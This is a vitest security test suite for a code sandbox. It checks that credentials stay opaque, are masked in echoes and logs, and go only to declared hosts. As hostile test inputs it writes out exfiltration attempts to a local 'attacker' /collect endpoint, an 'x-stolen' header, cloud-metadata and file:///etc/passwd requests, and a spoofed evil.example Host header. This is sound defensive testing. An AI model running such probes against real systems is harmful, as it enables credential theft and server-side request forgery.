import { randomBytes } from 'node:crypto';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { credentialGrant } from '../../src/sandbox/credentials.ts';
import { Sandbox } from '../../src/sandbox/sandbox.ts';
import type { StepScope } from '../../src/sandbox/types.ts';

interface Received {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** A real HTTP server on 127.0.0.1 that records every request and echoes it back, headers included. */
async function startPeer(): Promise<{ host: string; url: string; received: Received[]; close(): Promise<void> }> {
  const received: Received[] = [];
  const server: Server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const entry = { method: request.method ?? '', url: request.url ?? '', headers: request.headers, body: Buffer.concat(chunks).toString('utf8') };
      received.push(entry);
      response.setHeader('content-type', 'application/json');
      response.setHeader('x-echo-authorization', String(request.headers.authorization ?? ''));
      response.end(JSON.stringify({ youSent: entry }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    host: `127.0.0.1:${port}`,
    url: `http://127.0.0.1:${port}`,
    received,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

// Assembled at run time so no literal secret sits in the repository.
const TOKEN = ['canary', 'bearer', randomBytes(16).toString('hex')].join('-');
const API_KEY = ['canary', 'header', randomBytes(16).toString('hex')].join('-');
const PASSWORD = ['canary', 'basic', randomBytes(16).toString('hex')].join('-');

let api: Awaited<ReturnType<typeof startPeer>>;
let attacker: Awaited<ReturnType<typeof startPeer>>;
let sandbox: Sandbox;
let strictSandbox: Sandbox;
let scope: StepScope;

beforeAll(async () => {
  api = await startPeer();
  attacker = await startPeer();
  // The peers listen on 127.0.0.1, so this deployment allows private addresses; `strictSandbox` is the default.
  sandbox = await Sandbox.create({ allowPrivateAddresses: true, limits: { timeoutMs: 5_000 } });
  strictSandbox = await Sandbox.create({ limits: { timeoutMs: 5_000 } });
  const grants = new Map([
    ['cred-bearer', credentialGrant({ kind: 'bearer', token: TOKEN }, [api.host])],
    ['cred-header', credentialGrant({ kind: 'header', header: 'X-Api-Key', value: API_KEY }, [api.host])],
    ['cred-basic', credentialGrant({ kind: 'basic', username: 'robot', password: PASSWORD }, [api.host])],
  ]);
  // The attacker's host is declared by the node, but no credential may be sent there.
  scope = { hosts: [api.host, attacker.host], credentialFor: (handle) => grants.get(handle) };
});

afterAll(async () => {
  await Promise.all([sandbox.close(), strictSandbox.close(), api.close(), attacker.close()]);
});

const SECRETS = () => [TOKEN, API_KEY, PASSWORD, Buffer.from(`robot:${PASSWORD}`).toString('base64')];

function expectNoSecret(value: unknown): void {
  const text = JSON.stringify(value);
  for (const secret of SECRETS()) expect(text).not.toContain(secret);
}

function attackerSawNoSecret(): void {
  for (const request of attacker.received) expectNoSecret(request);
}

describe('[WFL-07] sandboxed code never sees raw credentials', () => {
  it('[WFL-07] the code holds only an opaque handle, and nothing in its reach contains the secret', async () => {
    const result = await sandbox.run({
      scope,
      input: { credential: 'cred-bearer' },
      code: `
        const seen = [input.credential, JSON.stringify(input), typeof credentials, Object.getOwnPropertyNames(globalThis).join(','), String(http.request), JSON.stringify(http)];
        console.log('handle', input.credential);
        return seen;`,
    });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect((result.output as string[])[0]).toBe('cred-bearer');
    expectNoSecret(result);
  });

  it('[WFL-07] the host injects the secret: it reaches the declared host, and echoes come back masked in the body, headers, logs and output', async () => {
    api.received.length = 0;
    const result = await sandbox.run({
      scope,
      input: { handle: 'cred-bearer', url: `${api.url}/v1/me` },
      code: `
        const response = await http.request({ url: input.url, credential: input.handle, headers: { authorization: 'Bearer ' + input.handle } });
        console.log('got', response.status, response.headers['x-echo-authorization'], response.body);
        return { status: response.status, echoedHeader: response.headers['x-echo-authorization'], echoedBody: JSON.parse(response.body).youSent.headers.authorization };`,
    });
    // The secret arrived where it was declared, replacing whatever the code set.
    expect(api.received).toHaveLength(1);
    expect(api.received[0]!.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(result).toMatchObject({ ok: true, output: { status: 200, echoedHeader: '[masked]', echoedBody: '[masked]' }, meter: { httpRequests: 1 } });
    expect(result.logs[0]!.message).toContain('[masked]');
    expectNoSecret(result);
  });

  it('[WFL-07] header and Basic credentials are masked in every echoed form, Base64 included', async () => {
    const result = await sandbox.run({
      scope,
      input: { url: `${api.url}/echo` },
      code: `
        const header = await http.request({ url: input.url, credential: 'cred-header' });
        const basic = await http.request({ url: input.url, method: 'post', credential: 'cred-basic', body: { note: 'hello' } });
        return { header: JSON.parse(header.body).youSent.headers['x-api-key'], basic: basic.headers['x-echo-authorization'], body: JSON.parse(basic.body).youSent.body };`,
    });
    expect(api.received.at(-2)!.headers['x-api-key']).toBe(API_KEY);
    expect(api.received.at(-1)!.headers.authorization).toBe(`Basic ${Buffer.from(`robot:${PASSWORD}`).toString('base64')}`);
    expect(result).toMatchObject({ ok: true, output: { header: '[masked]', basic: '[masked]', body: '{"note":"hello"}' } });
    expectNoSecret(result);
  });

  it('[WFL-07] a credential is not sent to a host it is not declared for, even one the node declares', async () => {
    attacker.received.length = 0;
    const result = await sandbox.run({
      scope,
      input: { url: `${attacker.url}/collect` },
      code: `
        const outcomes = [];
        for (const credential of ['cred-bearer', 'cred-header', 'cred-basic']) {
          try { await http.request({ url: input.url, credential }); outcomes.push('sent') } catch (error) { outcomes.push(error.code) }
        }
        return outcomes;`,
    });
    expect(result).toMatchObject({ ok: true, output: ['credential_host_not_allowed', 'credential_host_not_allowed', 'credential_host_not_allowed'] });
    expect(attacker.received).toHaveLength(0);
  });

  it('[WFL-07] relaying what the declared host echoed to another host leaks only the masked value', async () => {
    attacker.received.length = 0;
    const result = await sandbox.run({
      scope,
      input: { api: `${api.url}/echo`, collect: `${attacker.url}/collect` },
      code: `
        const echoed = await http.request({ url: input.api, credential: 'cred-bearer' });
        await http.request({ url: input.collect, method: 'POST', body: echoed.body, headers: { 'x-stolen': echoed.headers['x-echo-authorization'] } });
        await http.request({ url: input.collect + '?token=' + encodeURIComponent(echoed.body) });
        return 'relayed';`,
    });
    expect(result).toMatchObject({ ok: true, output: 'relayed', meter: { httpRequests: 3 } });
    expect(attacker.received).toHaveLength(2);
    expect(attacker.received[0]!.headers['x-stolen']).toBe('[masked]');
    expect(attacker.received[0]!.body).toContain('[masked]');
    attackerSawNoSecret();
  });

  it('[WFL-07] hosts the node does not declare are refused, whatever the name or port', async () => {
    attacker.received.length = 0;
    const port = attacker.host.split(':')[1];
    const result = await sandbox.run({
      scope: { hosts: [api.host], credentialFor: scope.credentialFor },
      code: `
        const outcomes = [];
        for (const url of ${JSON.stringify([`${attacker.url}/x`, `http://localhost:${port}/x`, `http://[::1]:${port}/x`, 'http://169.254.169.254/latest/meta-data/', 'file:///etc/passwd', `http://user:pw@${api.host}/`])}) {
          try { await http.request({ url }); outcomes.push('sent') } catch (error) { outcomes.push(error.code) }
        }
        try { await http.request({ url: '${api.url}/', headers: { host: 'evil.example' } }); outcomes.push('sent') } catch (error) { outcomes.push(error.code) }
        try { await http.request({ url: '${api.url}/', credential: 'no-such-handle' }); outcomes.push('sent') } catch (error) { outcomes.push(error.code) }
        return outcomes;`,
    });
    expect(result).toMatchObject({
      ok: true,
      output: ['host_not_allowed', 'host_not_allowed', 'host_not_allowed', 'host_not_allowed', 'invalid_request', 'invalid_request', 'invalid_request', 'credential_unavailable'],
    });
    expect(attacker.received).toHaveLength(0);
  });

  it('[WFL-07] loopback and private addresses are refused unless the deployment allows them, also behind a host name', async () => {
    api.received.length = 0;
    const port = api.host.split(':')[1];
    const result = await strictSandbox.run({
      scope: { hosts: [api.host, `localhost:${port}`, '10.0.0.1', '169.254.169.254', '[::1]:' + port], credentialFor: scope.credentialFor },
      code: `
        const outcomes = [];
        for (const url of ${JSON.stringify([`${api.url}/`, `http://localhost:${port}/`, 'http://10.0.0.1/', 'http://169.254.169.254/latest/meta-data/', `http://[::1]:${port}/`])}) {
          try { await http.request({ url }); outcomes.push('sent') } catch (error) { outcomes.push(error.code) }
        }
        // With a credential declared for the host, the address check still refuses.
        try { await http.request({ url: '${api.url}/', credential: 'cred-bearer' }); outcomes.push('sent') } catch (error) { outcomes.push(error.code) }
        return outcomes;`,
    });
    expect(result).toMatchObject({ ok: true, output: Array(6).fill('private_address') });
    expect(api.received).toHaveLength(0);
  });

  it('[WFL-07] a resolver that fails or a step without credentials gives the code nothing but a refusal', async () => {
    const failing = await sandbox.run({
      scope: {
        hosts: [api.host],
        credentialFor: () => {
          throw new Error(`vault exploded with ${TOKEN}`);
        },
      },
      code: `try { await http.request({ url: '${api.url}/', credential: 'cred-bearer' }) } catch (error) { return [error.name, error.code, error.message.includes('canary')] }`,
    });
    expect(failing).toMatchObject({ ok: true, output: ['HttpError', 'credential_unavailable', false] });
    expectNoSecret(failing);
    const none = await sandbox.run({ code: `try { await http.request({ url: '${api.url}/' }) } catch (error) { return error.code }` });
    expect(none).toMatchObject({ ok: true, output: 'host_not_allowed' });
  });
});
